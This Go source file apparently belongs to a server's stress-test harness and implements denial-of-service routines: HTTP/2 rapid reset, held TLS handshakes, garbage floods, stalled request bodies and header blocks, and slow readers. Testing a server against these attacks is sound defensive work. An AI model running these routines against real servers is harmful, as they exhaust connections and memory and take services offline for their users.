//go:build linux

package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"math/rand/v2"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// dialTCP opens the i-th connection of the attacker, before TLS.
func dialTCP(ctx context.Context, address string, i int) (net.Conn, error) {
	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: attackerIP(i)}, Timeout: patience}
	return dialer.DialContext(ctx, "tcp", address)
}

// dialBriefly is dialTCP for a connection that does not stay.
func dialBriefly(ctx context.Context, address string, i int) (net.Conn, error) {
	conn, err := dialTCP(ctx, address, i)
	if err == nil {
		err = conn.SetDeadline(time.Now().Add(patience))
	}
	return conn, err
}

// A silentConn loses what the server says.
type silentConn struct {
	net.Conn
	ctx context.Context
}

func (c silentConn) Read([]byte) (int, error) {
	<-c.ctx.Done()
	return 0, c.ctx.Err()
}

func holdHelloTCP(ctx context.Context, address string, units int) (int, func(), error) {
	var held holding
	ctx, cancel := context.WithCancel(ctx)
	held.add(cancel)
	done, err := each(units, func(i int) error {
		conn, err := dialTCP(ctx, address, i)
		if err != nil {
			return err
		}
		held.add(func() { _ = conn.Close() })
		go tls.Client(silentConn{conn, ctx}, &tls.Config{InsecureSkipVerify: true}).HandshakeContext(ctx)
		return nil
	})
	return done, held.release, err
}

func handshakeTCP(ctx context.Context, address string, units int) (int, func(), error) {
	done, err := each(units, func(i int) error {
		conn, err := dialBriefly(ctx, address, i)
		if err != nil {
			return err
		}
		defer conn.Close()
		return tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}).HandshakeContext(ctx)
	})
	return done, func() {}, err
}

func garbageTCP(ctx context.Context, address string, units int) (int, func(), error) {
	done, err := each(units/10, func(i int) error {
		conn, err := dialBriefly(ctx, address, i)
		if err != nil {
			return err
		}
		defer conn.Close()
		if _, err := conn.Write(garbage(1200)); err != nil {
			return err
		}
		_, _ = io.Copy(io.Discard, conn)
		return nil
	})
	return done, func() {}, err
}

// garbage returns a text whose first byte is that of a packet of QUIC for a connection.
func garbage(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rand.Uint32())
	}
	b[0] = 0x40
	return b
}

// An http2Attacker is a connection of HTTP/2.
type http2Attacker struct {
	conn   *tls.Conn
	ended  chan struct{} // closed when the server has ended the connection
	framer *http2.Framer
	next   uint32 // the id of the next stream
}

// dialHTTP2 opens a connection with the settings of a client, and reads until it ends.
func dialHTTP2(ctx context.Context, address string, i int, settings ...http2.Setting) (*http2Attacker, error) {
	plain, err := dialTCP(ctx, address, i)
	if err != nil {
		return nil, err
	}
	conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	c := &http2Attacker{conn: conn, ended: make(chan struct{}), framer: http2.NewFramer(conn, conn), next: 1}
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = c.framer.WriteSettings(settings...)
	}
	if err != nil {
		_ = plain.Close()
		return nil, err
	}
	go func() {
		defer close(c.ended)
		_, _ = io.Copy(io.Discard, conn)
	}()
	return c, nil
}

// open sends the head of a request, whose block may stop halfway.
func (c *http2Attacker) open(method, path string, ends, whole bool) (id uint32, err error) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "localhost"}, {":path", path}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	if method == "POST" {
		_ = encoder.WriteField(hpack.HeaderField{Name: "content-length", Value: "1000"})
	}
	id = c.next
	c.next += 2
	return id, c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: ends, EndHeaders: whole})
}

func rapidResetHTTP2(ctx context.Context, address string, units int) (int, func(), error) {
	done, err := eachConnection(units/streams, func(i int) (int, error) {
		c, err := dialHTTP2(ctx, address, i)
		if err != nil {
			return 0, err
		}
		defer c.conn.Close()
		for n := range streams {
			id, err := c.open("GET", "/hang", true, true)
			if err == nil {
				err = c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err != nil {
				return n, nil // the server has ended the connection
			}
		}
		// A reset would overtake the requests.
		_ = c.conn.SetDeadline(time.Now().Add(patience))
		_ = c.conn.CloseWrite()
		<-c.ended
		return streams, nil
	})
	return done, func() {}, err
}

// holdHTTP2 holds streams.
func holdHTTP2(ctx context.Context, address string, units, perConnection int, open func(*http2Attacker) error, settings ...http2.Setting) (int, func(), error) {
	var held holding
	done, err := eachConnection(units/perConnection, func(i int) (int, error) {
		c, err := dialHTTP2(ctx, address, i, settings...)
		if err != nil {
			return 0, err
		}
		held.add(func() { _ = c.conn.Close() })
		for n := range perConnection {
			if err := open(c); err != nil {
				return n, nil
			}
		}
		return perConnection, nil
	})
	return done, held.release, err
}

func holdBodiesHTTP2(ctx context.Context, address string, units int) (int, func(), error) {
	return holdHTTP2(ctx, address, units, streams, func(c *http2Attacker) error {
		_, err := c.open("POST", "/", false, true)
		return err
	})
}

// holdHeadsHTTP2 has one stream on each connection: a block that is not whole stops all.
func holdHeadsHTTP2(ctx context.Context, address string, units int) (int, func(), error) {
	return holdHTTP2(ctx, address, units/10, 1, func(c *http2Attacker) error {
		_, err := c.open("GET", "/", true, false)
		return err
	})
}

func holdReadersHTTP2(ctx context.Context, address string, units int) (int, func(), error) {
	return holdHTTP2(ctx, address, units, streams, func(c *http2Attacker) error {
		_, err := c.open("GET", "/long", true, true)
		return err
	}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1024})
}
